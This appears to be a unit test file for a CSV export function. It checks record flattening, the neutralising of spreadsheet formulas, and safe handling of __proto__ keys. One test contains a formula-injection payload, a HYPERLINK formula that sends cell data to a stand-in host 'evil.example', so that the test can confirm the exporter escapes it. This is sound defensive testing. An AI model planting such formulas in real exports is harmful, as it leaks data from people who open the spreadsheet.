import { exportCsv, flattenRecord } from './exportCsv';

describe("a list's export", () => {
  it('turns nested objects into columns and lists into one cell', () => {
    expect(flattenRecord({ id: 'g1', evidence: { name: 'acta.pdf', size: 10 }, themes: ['t1', 't2'], changes: { title: { before: 'a', after: 'b' } } })).toEqual({
      id: 'g1',
      'evidence.name': 'acta.pdf',
      'evidence.size': 10,
      themes: 't1, t2',
      'changes.title.before': 'a',
      'changes.title.after': 'b',
    });
  });

  it('hands the spreadsheet no formula, and keeps negative numbers as numbers', () => {
    const csv = exportCsv([{ id: 'g1', title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', indicatorCurrent: -5, places: ['@x'] }]);
    expect(csv.replace(/^\uFEFF/, '').split('\r\n')).toEqual(['id,title,indicatorCurrent,places', `g1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",-5,'@x`]);
  });

  it('takes a key named __proto__ as a column, not as a prototype', () => {
    const flat = flattenRecord(JSON.parse('{"changes":{"__proto__":{"before":"a","after":"=1"}}}'));
    expect(Object.keys(flat)).toEqual(['changes.__proto__.before', 'changes.__proto__.after']);
    expect(exportCsv([JSON.parse('{"__proto__":"=1"}')]).split('\r\n')[1]).toBe("'=1");
  });
});
